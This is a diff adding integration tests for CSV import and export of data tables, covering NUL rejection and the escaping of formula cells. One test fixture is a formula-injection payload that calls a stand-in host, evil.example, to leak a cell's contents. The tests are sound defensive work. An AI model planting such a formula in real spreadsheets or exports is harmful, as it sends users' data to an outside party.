@@ -320,3 +320,57 @@ describe('integration recommendations', () => {
     expectProblem(await other.api.get(url), 404, 'not_found');
   });
 });
+
+describe('data tables as CSV (issue 40)', () => {
+  it('a NUL in a CSV cell is 400 invalid_characters naming its line, and inserts nothing (D20)', async () => {
+    const { api, agent } = await orgWithAgent(svc);
+    const table = await priceTable(api, agent.id);
+    const rows = `${tables(agent.id)}/${table.id}/rows`;
+    const problem = expectFieldError(await api.post(rows, 'model,price,in_stock,since\nok,1,true,2024-01-01\na\u0000b,1,true,2024-01-01\n', { 'content-type': 'text/csv' }), 'body', 'invalid_characters');
+    expect(problem.detail).toMatch(/line 3/);
+    expect((await api.get(`${tables(agent.id)}/${table.id}`)).body.row_count).toBe(0);
+  });
+
+  it('GET rows.csv streams every row; a cell a spreadsheet would run as a formula leaves prefixed with \', and a round trip adds no second prefix (I9)', async () => {
+    const { api, agent } = await orgWithAgent(svc);
+    const table = await priceTable(api, agent.id);
+    const rows = `${tables(agent.id)}/${table.id}/rows`;
+    const cells = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', '+SUM(1+1)', '-2+3', '@SUM(A1)', '\tTab first', 'Trek "FX", 3', "'=already quoted", 'Plain'];
+    const added = await api.post(rows, { rows: cells.map((model, i) => ({ model, price: i === 0 ? -5 : i + 0.5, in_stock: i % 2 === 0, since: i === 1 ? null : '2024-02-29' })) });
+    expect(added.status, added.text).toBe(201);
+    const exported = await api.get(`${rows}.csv`);
+    expect(exported.status, exported.text).toBe(200);
+    expect(exported.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+    expect(exported.headers.get('content-disposition')).toBe('attachment; filename="Bikes.csv"');
+    expect(exported.text.split('\r\n')).toEqual([
+      'model,price,in_stock,since',
+      '"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")",-5,true,2024-02-29',
+      "'+SUM(1+1),1.5,false,",
+      "'-2+3,2.5,true,2024-02-29",
+      "'@SUM(A1),3.5,false,2024-02-29",
+      "'\tTab first,4.5,true,2024-02-29",
+      '"Trek ""FX"", 3",5.5,false,2024-02-29',
+      "'=already quoted,6.5,true,2024-02-29",
+      'Plain,7.5,false,2024-02-29',
+      '',
+    ]);
+    // Imported back into a table of the same columns: plain values as they were, the formulas once prefixed, and the next export the same.
+    const copy = await priceTable(api, agent.id);
+    const copyRows = `${tables(agent.id)}/${copy.id}/rows`;
+    const imported = await api.post(copyRows, exported.text, { 'content-type': 'text/csv' });
+    expect(imported.status, imported.text).toBe(201);
+    const models = (await api.get(copyRows)).body.data.map((r: any) => r.data.model);
+    expect(models).toEqual(["'=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")", "'+SUM(1+1)", "'-2+3", "'@SUM(A1)", "'\tTab first", 'Trek "FX", 3', "'=already quoted", 'Plain']);
+    expect((await api.get(copyRows)).body.data[0].data.price).toBe(-5);
+    expect((await api.get(`${copyRows}.csv`)).text).toBe(exported.text);
+    // An empty table is its header; another organization's is 404; the API reference lists the download as text/csv.
+    const empty = await api.post(tables(agent.id), { name: 'Empty one', columns: [{ name: 'a', type: 'string' }] });
+    expect((await api.get(`${tables(agent.id)}/${empty.body.id}/rows.csv`)).text).toBe('a\r\n');
+    const other = await orgWithAgent(svc);
+    expectProblem(await other.api.get(`${rows}.csv`), 404, 'not_found');
+    const openapi = (await client(svc.url).get('/api/v1/openapi.json')).body;
+    const op = openapi.paths['/api/v1/rest/agents/{id}/data-tables/{tableId}/rows.csv'].get;
+    expect(op.operationId).toBe('export_data_rows_csv');
+    expect(Object.keys(op.responses[200].content)).toEqual(['text/csv']);
+  });
+});
